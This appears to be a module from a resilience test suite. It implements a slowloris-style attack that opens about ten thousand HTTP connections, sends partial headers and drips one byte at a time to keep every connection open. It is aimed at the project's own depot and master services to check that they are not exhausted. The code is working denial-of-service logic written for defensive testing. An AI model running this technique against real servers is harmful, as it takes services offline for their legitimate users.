import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';
import type { Ground, Target } from '../attacker/ground.ts';
import { pace } from '../attacker/pace.ts';

/** More than any service here holds at once. */
const CONNECTIONS = 10_050;
const PER_SECOND = 2500;
/** So that no timeout of silence ends them: a byte now and then. */
const DRIP_MS = 3000;
const BEGINNING = 'GET /a HTTP/1.1\r\nHost: ';

/** Opens connections and begins a request over each that never ends. */
async function beginHeads(ground: Ground, target: Target): Promise<void> {
  const held = new Set<Socket>();
  let begun = 0;
  const begin = async () => {
    const socket = await ground.open(target).catch(() => undefined);
    ground.tally.answer(socket ? 'taken' : 'not taken');
    if (!socket) return;
    held.add(socket);
    socket.once('close', () => {
      held.delete(socket);
      ground.tally.answer('cut off');
    });
    socket.resume().write(BEGINNING);
  };
  const drip = async () => {
    while (!ground.signal.aborted) {
      await delay(DRIP_MS, undefined, { signal: ground.signal }).catch(() => undefined);
      for (const socket of held) socket.write('a');
    }
  };
  await Promise.all([
    drip(),
    pace(PER_SECOND, ground.signal, () => {
      if (begun >= CONNECTIONS) return;
      begun += 1;
      ground.tally.case();
      void begin();
    }),
  ]);
}

export const HALF_HEADS: Attack = {
  name: 'half-heads',
  does: `begins ${CONNECTIONS} requests from one network at a depot and ends none`,
  promise: 'one network does not hold the connections of all',
  worlds: ['splice', 'tls'],
  quick: ['splice'],
  strike: (ground) => beginHeads(ground, 'd1'),
};

export const HALF_HEADS_AT_MASTER: Attack = {
  name: 'half-heads-at-master',
  does: `begins ${CONNECTIONS} requests from one network at the master and ends none`,
  promise: 'one network does not hold the connections of all',
  worlds: ['splice', 'tls'],
  quick: ['splice'],
  strike: (ground) => beginHeads(ground, 'master'),
};
